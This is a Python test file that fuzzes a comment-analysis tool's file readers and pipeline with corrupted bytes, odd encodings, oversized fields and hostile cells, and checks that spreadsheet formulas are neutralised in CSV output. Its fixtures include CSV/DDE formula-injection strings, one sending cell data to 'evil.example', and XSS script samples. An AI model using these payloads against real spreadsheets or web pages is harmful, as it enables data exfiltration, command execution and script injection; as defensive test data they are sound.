"""Hostile input ends in one clear error or a reject row: never a traceback, never a lost row.

Random bytes, broken encodings, huge comments, duplicate or blank headers, mixed types, formula
strings and HTML go through the readers and the cleaner directly (fast, many examples); then one
hand-built hostile CSV and one mixed-type JSONL go through the whole pipeline, and broken files
through the CLI.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError

import cxtext
from cxtext.clean import clean_comments
from cxtext.config import ColumnOptions
from cxtext.errors import CxtextError, InputError
from cxtext.io.columns import resolve_columns
from cxtext.io.contract import ROW_COLUMN
from cxtext.io.read import decode_text, read_input, sniff_delimiter
from tests.support import DEMO_CORPUS, run_cli
from tests.test_cli import assert_one_error_line

FAST = settings(
    max_examples=120,
    derandomize=True,  # the same examples every run (a random one once segfaulted polars)
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/steal","Klik her")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]
HTML = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><h1>Kunde</h1>",
    "&lt;b&gt;fed&lt;/b&gt; &amp; &#x27;",
]
ODD_TEXT = [
    "",
    " ",
    "\r\n",
    "-",
    "ok",
    "Ingen kommentar",
    "Appen crasher hver gang jeg logger ind 😡🔥",
    "Kön var lång, tre veckor; ingen svarade",
    'Han sagde "aldrig igen", og gik',
    "ctrl\x01\x07\x1b\x7f chars",
    "zero\u200bwidth\ufeff and\u2028line\u2029sep\x85",
    "e\u0301 vs é, Å vs A\u030a",
    "𝕳𝖊𝖑𝖑𝖔 \U0001f9d1\u200d\U0001f4bb",
    "NaN",
    "null",
    "1e309",
    "-0",
    "  leading and trailing  ",
]
# Header names that have bitten: contract names, the row column, blanks, formulas, delimiters.
HEADER_NAMES = [
    "comment",
    "Kommentar",
    "svar",
    "id",
    "text",
    "text_input",
    "lang",
    "no_content",
    "theme_id",
    "_row",
    "_row_input",
    "column_2",
    "score",
    "",
    " ",
    "=cmd|' /C calc'!A0",
    "<b>x</b>",
    "Dato;tid",
    "a,b",
]

cells = st.one_of(
    st.sampled_from(FORMULAS + HTML + ODD_TEXT),
    st.text(max_size=40),
    st.integers().map(str),
    st.floats().map(str),
    st.builds(  # long cells, some past the csv module's 128 KiB default field limit
        lambda piece, times: piece * times,
        st.sampled_from(["x", "ø ", "Lang kommentar, ", "a\nb;", '"']),
        st.integers(min_value=1_000, max_value=10_000),
    ),
)
headers = st.lists(
    st.one_of(st.sampled_from(HEADER_NAMES), st.text(max_size=12)), min_size=1, max_size=6
)


@st.composite
def tables(draw) -> tuple[list[str], list[list[str]]]:
    """A header and rows that mostly, but not always, have as many fields as the header."""
    header = draw(headers)
    width = len(header)
    exact = st.lists(cells, min_size=width, max_size=width)
    ragged = st.lists(cells, min_size=max(1, width - 1), max_size=width + 1)
    return header, draw(st.lists(st.one_of(exact, ragged), max_size=8))


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


def read_and_clean(path: Path, options: ColumnOptions | None = None):
    """Reader, column finder and cleaner as the pipeline runs them.

    Returns None on a clear error (a `CxtextError`); any other exception fails the test.
    """
    try:
        raw = read_input(path)
        columns = resolve_columns(raw.frame, options or ColumnOptions())
        comments, empty = clean_comments(raw.frame, columns)
    except CxtextError as error:
        assert str(error).strip(), "a user-facing error needs a message"
        return None
    rejects = pl.concat([raw.rejects, empty])
    assert_every_row_accounted(raw.rows_read, comments, rejects)
    return raw, comments, rejects


def assert_every_row_accounted(rows_read: int, comments, rejects) -> None:
    """Rows read = rows kept + rows rejected, and each row number is in exactly one of them."""
    kept = comments.get_column(ROW_COLUMN).to_list()
    rejected = rejects.get_column("row").to_list()
    assert rows_read == len(kept) + len(rejected)
    assert sorted(kept + rejected) == list(range(1, rows_read + 1))


def csv_text(header: list[str], rows: list[list[str]], delimiter: str) -> str:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


# --- readers: random and corrupted bytes -------------------------------------------------------


def valid_files() -> dict[str, bytes]:
    """One small valid file per format, to corrupt."""
    parquet = io.BytesIO()
    pl.DataFrame({"id": ["1", "2"], "kommentar": ["Appen crasher", "Kön"]}).write_parquet(parquet)
    workbook = Workbook()
    workbook.active.append(["id", "kommentar"])
    workbook.active.append([1, "Appen crasher når jeg åbner den"])
    xlsx = io.BytesIO()
    workbook.save(xlsx)
    return {
        ".csv": 'id;kommentar\n1;Appen crasher\n2;"Kön, igen"\n'.encode(),
        ".jsonl": b'{"id": 1, "kommentar": "Appen crasher"}\n{"id": 2, "kommentar": null}\n',
        ".xlsx": xlsx.getvalue(),
        ".parquet": parquet.getvalue(),
    }


VALID = valid_files()


@st.composite
def corrupted(draw, suffix: str) -> bytes:
    """Random bytes, or a valid file truncated or with a stretch overwritten by random bytes."""
    original = VALID[suffix]
    how = draw(st.sampled_from(["random", "truncate", "overwrite"]))
    if how == "random":
        return draw(st.binary(max_size=2048))
    cut = draw(st.integers(min_value=0, max_value=len(original)))
    if how == "truncate":
        return original[:cut]
    patch = draw(st.binary(min_size=1, max_size=64))
    return original[:cut] + patch + original[cut + len(patch) :]


@pytest.mark.parametrize("suffix", list(VALID))
def test_random_and_corrupted_bytes_give_a_clear_error_or_rows(workdir: Path, suffix: str) -> None:
    path = workdir / f"bytes{suffix}"

    @FAST
    @given(data=corrupted(suffix))
    def check(data: bytes) -> None:
        path.write_bytes(data)
        read_and_clean(path)

    check()


@FAST
@given(bom=st.sampled_from([b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf"]), data=st.binary())
def test_broken_text_after_a_bom(workdir: Path, bom: bytes, data: bytes) -> None:
    path = workdir / "bom.csv"
    path.write_bytes(bom + data)
    read_and_clean(path)


def test_truncated_utf16_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "utf16.csv"
    path.write_bytes("id,kommentar\n1,Kön\n".encode("utf-16")[:-1])  # odd number of bytes
    with pytest.raises(InputError, match="cannot decode .* as UTF-16"):
        read_input(path)


# --- readers: random tables --------------------------------------------------------------------


@FAST
@given(
    table=tables(),
    delimiter=st.sampled_from([",", ";"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
)
def test_random_csv_tables(workdir: Path, table, delimiter: str, encoding: str) -> None:
    header, rows = table
    text = csv_text(header, rows, delimiter)
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        return  # cp1252 cannot hold this table; Excel would not have written it
    path = workdir / "table.csv"
    path.write_bytes(data)
    outcome = read_and_clean(path)
    if outcome is None or decode_text(data, path) != text or sniff_delimiter(text) != delimiter:
        return  # a clear error, or a file that reads as another text or delimiter
    raw, _, _ = outcome
    if raw.layout == "title rows":
        return  # a header as empty as a title row over a header of names (io/layout.py)
    assert raw.rows_read == len(rows)  # every row written comes back, kept or rejected
    # an empty column under a blank header (Excel's trailing `;`) is dropped, nothing else
    whole = [row for row in rows if len(row) == len(header)]  # a ragged row is a reject
    kept = [i for i, name in enumerate(header) if name.strip() or any(row[i] for row in whole)]
    for number, *values in raw.frame.select(ROW_COLUMN, pl.exclude(ROW_COLUMN)).rows():
        assert values == [rows[number - 1][i] for i in kept]  # a kept row comes back unchanged


@FAST
@given(table=tables())
def test_random_xlsx_tables(workdir: Path, table) -> None:
    header, rows = table
    workbook = Workbook()
    try:
        for row in [header, *rows]:
            workbook.active.append(row)
    except IllegalCharacterError:
        return  # openpyxl will not write control characters: no such XLSX file exists
    for cell in (cell for row in workbook.active.iter_rows() for cell in row):
        cell.data_type = "s" if cell.data_type == "f" else cell.data_type  # "=1+2" as text
    path = workdir / "table.xlsx"
    workbook.save(path)
    outcome = read_and_clean(path)
    if outcome is not None and any(header):
        raw, _, _ = outcome
        if raw.layout == "title rows":
            return  # a header as empty as a report's title rows is read as one (io/layout.py)
        assert raw.rows_read == sum(1 for row in rows if any(row))  # blank rows are not rows


@st.composite
def json_lines(draw) -> list[str]:
    """JSONL lines: objects with mixed-type values, plus broken and non-object lines."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(),
        st.sampled_from(FORMULAS + HTML + ODD_TEXT),
    )
    values = st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
        max_leaves=6,
    )
    record = st.dictionaries(st.sampled_from(HEADER_NAMES), values, min_size=1, max_size=5)
    line = st.one_of(
        record.map(lambda r: json.dumps(r, ensure_ascii=False)),  # raw U+2028, U+0085, ...
        record.map(json.dumps),
        st.sampled_from(
            [
                "[1, 2, 3]",
                '"just a string"',
                "{not json",
                '{"comment": "half',
                "[" * 5000,
                '{"comment": ' + "9" * 5000 + "}",
                '{"comment": "lone \\ud800 surrogate in a comment"}',
                '{"comment": "ok", "comment": "twice"}',
                '{"_row": 7, "_row_input": 8, "comment": "row clash"}',
                "   ",
            ]
        ),
    )
    return draw(st.lists(line, min_size=1, max_size=8))


@FAST
@given(lines=json_lines(), encoding=st.sampled_from(["utf-8", "utf-8-sig"]))
def test_random_jsonl(workdir: Path, lines: list[str], encoding: str) -> None:
    path = workdir / "lines.jsonl"
    path.write_bytes("\n".join(lines).encode(encoding))
    outcome = read_and_clean(path)
    if outcome is not None:
        raw, _, _ = outcome
        assert raw.rows_read == sum(1 for line in lines if line.strip())


# --- readers: named hostile files --------------------------------------------------------------


def test_one_megabyte_comment_is_one_row(tmp_path: Path) -> None:
    """Past the csv module's 128 KiB field limit a comment used to become ~30,000 rows."""
    big = "Leveringen var forsinket, igen.\n" * 33_000
    path = tmp_path / "big.csv"
    path.write_text(f'id,kommentar\n1,"{big}"\n2,"to, felter"\n3,kort\n', encoding="utf-8")
    raw, comments, rejects = read_and_clean(path)
    assert raw.rows_read == 3 and rejects.height == 0
    assert comments.get_column("text")[0] == " ".join(big.split())


def test_line_separators_inside_a_json_string_do_not_split_the_line(tmp_path: Path) -> None:
    path = tmp_path / "separators.jsonl"
    lines = [{"id": 1, "comment": "første\u2028anden"}, {"id": 2, "comment": "x\x85y\x1cz"}]
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in lines), "utf-8")
    raw, comments, rejects = read_and_clean(path)
    assert raw.rows_read == 2 and rejects.height == 0


def test_unusable_json_lines_are_rejects(tmp_path: Path) -> None:
    path = tmp_path / "unusable.jsonl"
    lines = ["[" * 5000, '{"comment": ' + "9" * 5000 + "}", '{"comment": "\\ud800"}', "{}"]
    path.write_text("\n".join([*lines, '{"comment": "Appen crasher"}']), "utf-8")
    raw, comments, rejects = read_and_clean(path)
    assert raw.rejects.get_column("row").to_list() == [1, 2, 3]
    assert comments.get_column("text").to_list() == ["Appen crasher"]


def test_contract_names_in_the_input_never_clash(tmp_path: Path) -> None:
    path = tmp_path / "names.csv"
    path.write_text("comment,text,text_input,lang\nAppen crasher igen,a,b,c\n", encoding="utf-8")
    _, comments, _ = read_and_clean(path)
    assert comments.get_column("text").to_list() == ["Appen crasher igen"]
    assert {"text_input", "text_input_2", "lang_input"} <= set(comments.columns)


def test_nested_binary_and_row_columns_in_parquet(tmp_path: Path) -> None:
    path = tmp_path / "nested.parquet"
    pl.DataFrame(
        {
            "comment": [["Appen", "crasher"], None, ["Kön"]],
            "id": [[1], [2], [3]],
            "blob": [b"\xff\xfe", b"ok", None],
            "_row": [9, 8, 7],
            "_row_input": [1, 2, 3],
        }
    ).write_parquet(path)
    _, comments, rejects = read_and_clean(path, ColumnOptions(text="comment", id="id"))
    assert comments.get_column("text").to_list() == ['["Appen", "crasher"]', '["Kön"]']
    assert rejects.get_column("row").to_list() == [2]
    _, comments, _ = read_and_clean(path, ColumnOptions(text="blob"))
    assert comments.get_column("text").to_list() == ["\ufffd\ufffd", "ok"]


# --- the whole pipeline ------------------------------------------------------------------------

TROUBLE = {  # id -> comment; after 18 real comments
    "x-big": "Leveringen var forsinket, igen.\n" * 33_000,  # ~1 MB, with newlines
    "x-nul": "Fakturaen\x00 er forkert\x00 igen",  # a reject naming its line, not "binary"
    "x-formula": FORMULAS[0],
    "x-cmd": FORMULAS[2],
    "x-at": FORMULAS[4],
    "x-script": "<script>alert('xss')</script> Appen crasher når jeg betaler",
    "x-emoji": "Appen crasher hver gang 😡🔥 jeg åbner den",
    "x-control": "Kön\x01 var\x1b lång\x7f, tre\u200b veckor",
    "x-dash": "-",
    "x-blank": "   ",
    "x-empty": "",
}
TROUBLE_REJECTS = {"x-nul", "x-blank", "x-empty"}


def hostile_csv(path: Path) -> int:
    """Duplicate and blank headers, an all-empty column, formula headers and cells, a 1 MB
    comment, NUL bytes, a row with too many fields. Returns the number of data rows."""
    header = ["id", "kommentar", "kommentar", "tom", "", "=SUM(A1)", "<script>x</script>"]
    real = pl.read_csv(DEMO_CORPUS, infer_schema=False).get_column("comment").head(18)
    rows = [[f"d{i}", text, f"dup {i}", "", str(i), "=1+1", "<b>"] for i, text in enumerate(real)]
    rows += [[key, text, "", "", "1", "", ""] for key, text in TROUBLE.items()]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
        handle.write("x-wide,too,many,fields,here,and,more,and,more\n")
    return len(rows) + 1


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("hostile_run")
    rows = hostile_csv(folder / "hostile.csv")
    out = folder / "out"
    result = cxtext.analyze(folder / "hostile.csv", out=out, id_col="id", seed=42)
    return result, out, rows


def test_hostile_csv_runs_and_accounts_for_every_row(hostile_run) -> None:
    result, out, rows = hostile_run
    run = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run["rows_read"] == rows
    assert run["rows_read"] == run["rows_written"] + run["rows_rejected"]
    assert run["text_column"] == "kommentar"
    rejects = pl.read_csv(out / "rejects.csv", infer_schema=False)
    assert rejects.height == run["rows_rejected"] == len(TROUBLE_REJECTS) + 1  # + too wide
    written = set(result.comments.get_column("id"))
    assert set(TROUBLE) - TROUBLE_REJECTS <= written
    big = result.comments.filter(pl.col("id") == "x-big").get_column("text").item()
    assert len(big) > 1_000_000  # the 1 MB comment is one whole comment


def test_hostile_csv_formulas_inert_in_csv_raw_in_parquet(hostile_run) -> None:
    _, out, _ = hostile_run
    as_csv = pl.read_csv(out / "comments.csv", infer_schema=False)
    as_parquet = pl.read_parquet(out / "comments.parquet")
    for key in ("x-formula", "x-cmd", "x-at"):
        assert as_csv.filter(pl.col("id") == key)["text"].item() == "'" + TROUBLE[key]
        assert as_parquet.filter(pl.col("id") == key)["text"].item() == TROUBLE[key]
    assert "=SUM(A1)" not in as_csv.columns  # a formula header is made inert too
    assert set(as_csv.get_column("'=SUM(A1)").drop_nulls()) - {""} == {"'=1+1"}
    assert "<script>" in as_parquet.filter(pl.col("id") == "x-script")["text"].item()


def test_mixed_type_jsonl_runs_and_accounts_for_every_row(tmp_path: Path) -> None:
    """Numbers, booleans, lists and objects where text is expected; broken lines among them."""
    real = pl.read_csv(DEMO_CORPUS, infer_schema=False).get_column("comment").head(20)
    records = [{"id": i, "kommentar": text, "score": i % 11} for i, text in enumerate(real)]
    records += [
        {"id": "s", "kommentar": "Appen crasher", "score": "fem", "tags": ["app", 1, None]},
        {"id": 1.5, "kommentar": 42},
        {"id": True, "kommentar": ["Kön", "var", "lång"]},
        {"id": None, "kommentar": {"tekst": "Fakturaen er forkert", "n": 2}},
        {"id": "t", "kommentar": True},
        {"id": "n", "kommentar": None},
        {"id": "e", "kommentar": ""},
    ]
    lines = [json.dumps(r, ensure_ascii=False) for r in records]
    lines += ["[1, 2]", "{broken", '{"kommentar": "\\ud800"}', "[" * 5000]
    path = tmp_path / "mixed.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = cxtext.analyze(path, out=tmp_path / "out", id_col="id", seed=42)
    run = result.run
    assert run["rows_read"] == len(lines)
    assert run["rows_read"] == run["rows_written"] + run["rows_rejected"]
    assert run["rows_rejected"] == 2 + 4  # null and "" comments, four unusable lines


BROKEN_FILES = {
    "truncated.xlsx": lambda: VALID[".xlsx"][: len(VALID[".xlsx"]) // 2],
    "random.parquet": lambda: bytes(range(7, 250, 3)) * 20,
    "utf16_no_bom_odd.csv": lambda: "id,kommentar\n1,Kön var lång\n".encode("utf-16-le")[:-1],
    "header_only.csv": lambda: b"id,kommentar\r\n",
}


@pytest.mark.parametrize("name", list(BROKEN_FILES))
def test_cli_broken_file_is_one_clear_line(tmp_path: Path, name: str) -> None:
    source = tmp_path / name
    source.write_bytes(BROKEN_FILES[name]())
    done = run_cli("analyze", str(source), "--out", str(tmp_path / "out"), "-q", timeout=120)
    assert_one_error_line(done, exit_code=2)
    assert not (tmp_path / "out").exists()
